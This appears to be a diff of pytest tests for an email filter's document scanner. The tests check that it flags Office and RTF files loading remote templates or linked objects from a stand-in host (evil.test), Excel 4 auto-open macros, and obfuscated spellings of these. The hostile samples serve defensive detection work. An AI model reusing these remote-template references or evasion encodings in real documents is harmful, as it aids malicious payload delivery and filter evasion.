@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 
 from elemta_milter.archives import Bounds, Budget, piecewise
 from elemta_milter.archives.budget import BrokenError
-from elemta_milter.contents import macros, office, pdf
+from elemta_milter.contents import macros, office, pdf, remote
 from harness.archives import ole, vba_project
 
 MACRO = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'
@@ -88,13 +88,111 @@ def test_what_a_document_loads_from_elsewhere(kind, target, mode, fetches):
     assert office.look_at_part("word/_rels/settings.xml.rels", data).fetches is fetches
 
 
-def test_what_rtf_loads_from_elsewhere():
-    assert office.has_remote_template(memoryview(b"{\\rtf1{\\*\\template http://evil.test/a.dotm}}"))
-    assert not office.has_remote_template(memoryview(b"{\\rtf1{\\*\\template C:\\\\a.dotx}}"))
+ATTRIBUTES = 'Id="a" Type="http://x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"'
 
 
-def test_macros_of_excel_4_that_run_by_themselves():
-    assert office.look_at_part("xl/workbook.xml", memoryview(b'<definedName name="_xlnm.Auto_Open">')).runs_itself
+@pytest.mark.parametrize(
+    "relation",
+    [
+        f"<Relationship {ATTRIBUTES}/>".replace("http://evil", "&#104;ttp://evil"),
+        f"<Relationship {ATTRIBUTES}/>".replace("External", "&#x00045;xternal"),
+        f"<Relationship {ATTRIBUTES}/>".replace("http://evil", "&#x2f;&#x2F;evil"),
+        f"<Relationship {ATTRIBUTES}/>".replace("a.dotm", "?>"),
+        f"<Relationship {ATTRIBUTES}/>".replace("a.dotm", "a" * 10_000),
+        f"<_a-prefix.of-any-length-and-letters_ü:Relationship {ATTRIBUTES}/>",
+        f"<Relationship {ATTRIBUTES}/>".replace('"', "'"),
+        f"<Relationship Id='\"' {ATTRIBUTES[7:]}/>",
+    ],
+)
+@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
+def test_what_is_loaded_from_elsewhere_however_it_is_written(relation, charset):
+    data = f"<Relationships>{relation}</Relationships>".encode(charset)
+    assert office.look_at_part("word/_rels/settings.xml.rels", memoryview(data)).fetches
+
+
+@pytest.mark.parametrize(
+    ("template", "fetches"),
+    [
+        (rb"{\*\template http://evil.test/a.dotm}", True),
+        (rb"{\template http://evil.test/a.dotm}", True),
+        (rb"{\*\template \'68ttp://evil.test/a.dotm}", True),
+        (rb"{\*\template \u-65432?\u-65420?\u-65420?\u-65424?\u-65478?\'2f\'2fevil.test/a.dotm}", True),
+        (rb"{\*\template \u104\'3f\u116 ?\u116?\u112?://evil.test/a.dotm}", True),
+        (rb"{\uc0{\*\template \u104 ttp://evil.test/a.dotm}}", True),
+        (b"{\\*\\template h\r\nt{t}p://evil.test/a.dotm}", True),
+        (rb"{\*\template\b http://evil.test/a.dotm}", True),
+        (rb"{\*\template \\\\evil.test\\a.dotm}", True),
+        (rb"{\*\template C:\\a.dotx}{\*\template http://evil.test/a.dotm}", True),
+        (rb"{\*\template C:\\a.dotx}", False),
+        (rb"{\*\template \\a.dotx}", False),
+        (rb"{\*\templatehttp://evil.test}", False),
+        (rb"{\*\template \u10740?ttp://a}", False),
+    ],
+)
+def test_what_rtf_loads_from_elsewhere(template, fetches):
+    assert remote.has_remote_template(memoryview(rb"{\rtf1" + template + b"}")) is fetches
+
+
+@pytest.mark.parametrize(
+    ("moniker", "address", "fetches"),
+    [
+        ("e0c9ea79f9bace118c8200aa004ba90b", "http://evil.test/a.hta", True),
+        ("0303000000000000c000000000000046", "\\\\evil.test\\a.xls", True),
+        ("0303000000000000c000000000000046", "C:\\a.xls", False),
+        ("00" * 16, "http://evil.test/a.hta", False),
+    ],
+)
+def test_what_an_object_is_linked_to(moniker, address, fetches):
+    link = bytes(20) + bytes.fromhex(moniker) + struct.pack("<L", 2 * len(address)) + address.encode("utf-16-le")
+    assert office.look(memoryview(ole({"a/\x01Ole": bytes(20), "\x01Ole": link}))).fetches is fetches
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\\template " * 500_000,
+        b"\\template \\u" * 300_000,
+        b"\\template " + b"{" * 5_000_000,
+    ],
+    ids=["templates", "numbers", "groups"],
+)
+def test_a_hostile_rtf_costs_no_more_than_the_budget(data):
+    began = time.thread_time()
+    remote.has_remote_template(memoryview(data), Budget(Bounds()).goes_on)
+    assert time.thread_time() - began < 4
+
+
+@pytest.mark.parametrize(
+    "piece", [b"<Relationship ", b"<Relationship '", b'<Relationship "', b"<a:", b"<Relationship ''", b"&#0"]
+)
+def test_hostile_relations_take_linear_time(piece):
+    began = time.thread_time()
+    remote.has_remote_relation(memoryview(piece * (2_000_000 // len(piece))))
+    assert time.thread_time() - began < 4
+
+
+@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
+@pytest.mark.parametrize(
+    "kind", ["application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-excel.intlMacro&#83;heet"]
+)
+def test_macros_of_excel_4_in_a_sheet_that_is_called_like_any_other(kind, charset):
+    data = f'<Types><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/></Types>'.encode(charset)
+    assert office.look_at_part("[Content_Types].xml", memoryview(data)).macros
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("xl/workbook.xml", b'<definedName name="_xlnm.Auto_Open">'),
+        ("xl/workbook.xml", b'<definedName name="_xlnm.auto_&#79;pen">'),
+        ("xl/workbook.bin", b"\x83\1\0" + "_xlnm.Auto_Close".encode("utf-16-le")),
+        ("x/y.xml", b'<?xml version="1.0"?><x:workbook xmlns:x="y"><definedName name="_xlnm.Auto_Close">'),
+        ("x/y.xml", '<workbook xmlns:x="y"><definedName name="_xlnm.Auto_Open">'.encode("utf-16")),
+        ("x/y.bin", b"\x83\1\0" + "_xlnm.Auto_Open".encode("utf-16-le")),
+    ],
+)
+def test_macros_of_excel_4_that_run_by_themselves(name, data):
+    assert office.look_at_part(name, memoryview(data)).runs_itself
 
 
 def test_olevba_says_what_macros_do():
